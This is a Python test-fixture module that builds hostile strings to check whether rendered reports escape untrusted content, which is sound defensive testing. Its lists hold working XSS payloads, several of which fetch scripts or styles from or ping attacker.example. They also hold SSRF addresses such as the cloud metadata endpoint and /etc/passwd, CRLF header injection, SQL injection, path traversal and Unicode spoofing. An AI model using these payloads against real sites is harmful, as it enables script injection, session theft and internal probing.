"""Hostile texts: what a document, its name or a model may contain to attack the reader of a report."""

import random
from collections.abc import Iterator, Sequence

MARKER = "window.attacked=1"
"""The script of every attack. A page that runs any of them can be recognized by it."""

SCRIPTS = (
    "<script>{x}</script>",
    "</title><script>{x}</script>",
    "<SCRIPT SRC=//attacker.example/x.js></SCRIPT>",
    "<img src=x onerror={x}>",
    '"><img src=x onerror="{x}">',
    "'><svg/onload={x}>",
    '" onmouseover="{x}" autofocus onfocus="{x}',
    '<iframe srcdoc="<script>parent.{x}</script>"></iframe>',
    "<iframe src=javascript:{x}></iframe>",
    "<object data=javascript:{x}></object>",
    "<form action=https://attacker.example/><button autofocus>Go</button></form>",
    "<meta http-equiv=refresh content='0;url=https://attacker.example/'>",
    "<base href=https://attacker.example/>",
    "<link rel=stylesheet href=https://attacker.example/x.css>",
    "<style>@import 'https://attacker.example/x.css';*{{background:url(https://attacker.example/p)}}</style>",
    "<video><source onerror={x}></video>",
    "<details open ontoggle={x}>",
    "<math><mtext></mtext><mglyph><style><!--</style><img title=--&gt;&lt;img src=x onerror={x}&gt;>",
    "<template><script>{x}</script></template>",
    "<!--><script>{x}</script>-->",
    "]]><script>{x}</script>",
    "\\u003cscript\\u003e{x}\\u003c/script\\u003e",
    "&lt;script&gt;{x}&lt;/script&gt;",
    "&#60;script&#62;{x}&#60;/script&#62;",
    "%3Cscript%3E{x}%3C/script%3E",
    "{{{{constructor.constructor('{x}')()}}}}",
    "${{{x}}}",
    "<svg><script>{x}</script></svg>",
    "<svg><animate onbegin={x} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:{x}><text y=20>click</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{x}</script></svg>#x'></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.{x}</script>'></iframe></foreignObject></svg>",
    "<math href=javascript:{x}>click</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:{x}>click</maction></math>",
    "<noscript><p title='</noscript><img src=x onerror={x}>'>",
    "<svg></p><style><a id='</style><img src=1 onerror={x}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={x}>",
    "<select><iframe></select><img src=x onerror={x}>",
    "<div style='position:fixed;inset:0;z-index:99999;background:red'>Sign in again</div>",
    '<div style="width:expression({x});behavior:url(//attacker.example/x.htc)">',
    "<textarea></textarea><img src=x onerror={x}>",
    "<marquee onstart={x} width=9999>",
    "<portal src=https://attacker.example/></portal><embed src=//attacker.example/x.swf>",
    "<a href=https://attacker.example/ target=_blank rel=opener ping=https://attacker.example/p>click</a>",
    "<plaintext>",
    "<xmp><img src=x onerror={x}></xmp>",
    "<input type=image src=x onerror={x} formaction=javascript:{x}>",
    "<body onpageshow={x}><html onclick={x}>",
    "<script type=module>import 'https://attacker.example/x.js'</script>",
    "<title>Offing: your session has ended</title>",
)
MARKDOWN = (
    "[click](javascript:{x})",
    "![image](https://attacker.example/pixel.png)",
    "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuYXR0YWNrZWQ9MTwvc2NyaXB0Pg==)",
    "<javascript:{x}>",
    "[a]: javascript:{x}\n\n[a]",
    "# Heading\n\n* list\n* <b>bold</b>",
    "`code` ~~~\n<script>{x}</script>\n~~~",
    "| a | b |\n|---|---|\n| <img src=x onerror={x}> | 2 |",
    "https://attacker.example/?q={x}",
)
ADDRESSES = (
    "javascript:{x}",
    "JaVaScRiPt:{x}",
    " javascript:{x}",
    "java\tscript:{x}",
    "data:text/html,<script>{x}</script>",
    "vbscript:{x}",
    "file:///etc/passwd",
    "https://user:password@attacker.example/",
    "https://attacker.example\\@trusted.example/",
    "http://127.0.0.1:5432/",
    "http://169.254.169.254/latest/meta-data",
    "http://intranet.local/secret",
    "//attacker.example/",
    "https://xn--80ak6aa92e.com/",
    "https://\u202emoc.elpmaxe.rekcatta/",
    "https://attacker.example/" + "a" * 2_000,
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5hdHRhY2tlZD0xIi8+",
    "blob:https://attacker.example/1",
    "mailto:a@attacker.example?body={x}",
    "https:javascript:{x}",
    "\x01javascript:{x}",
)
CHARACTERS = (
    "\u202etxt.exe\u202c",
    "\u2066\u2067\u2068nested\u2069",
    "\u200b\u200c\u200d\ufeffinvisible",
    "p\u0430ypal.com and \u0440\u0430\u0443\u0440\u0430\u04cf.com",
    "a" * 3_000,
    "\u0e01" + "\u0e49" * 200,
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034d"
    * 10,
    "\x1b[31mred\x1b[0m \x07 \x08 \x7f",
    "null \\x00 \\u0000 %00 &#0;",
    "\ufffe\uffff \ud7ff",
    "\r\nSet-Cookie: stolen=1\r\n\r\n<script>{x}</script>",
    "\u2028\u2029line ends",
    "\u202d\u202b\u202e\u2067never closed",
    "\u061c\u200e\u200f\u202bmarks",
    "\u0410\u0392\uff23\u2160 \u2100 \uff1cscript\uff1e{x}\uff1c/script\uff1e",
    "\ufdfa" * 40,
    "\U0001f468\u200d" * 60,
    "\u2028".join(["line"] * 50),
    "\n".join(["line"] * 200),
    "W" * 400 + " " + "\u4e2d" * 400,
    "\u00a0" * 300 + "end",
    "\U000e0001\U000e0020tags",
    "'; drop table app.run; --",
    "../../../../etc/passwd",
    "CON.txt:stream",
    "__proto__",
    "constructor",
)


def list_hostile_texts(count: int, seed: int = 0) -> Sequence[str]:
    """Return as many different hostile texts: each attack alone, then combinations of them."""
    attacks = [one.replace("{x}", MARKER).replace("{{", "{").replace("}}", "}") for one in _list_attacks()]
    texts = dict.fromkeys(attacks)
    chooser = random.Random(seed)
    while len(texts) < count:
        parts = chooser.sample(attacks, chooser.randint(2, 3))
        texts[chooser.choice(("", " ", "\n", '"', "'", ">")).join(parts)] = None
    return list(texts)[:count]


def _list_attacks() -> Iterator[str]:
    yield from (*SCRIPTS, *MARKDOWN, *ADDRESSES, *CHARACTERS)
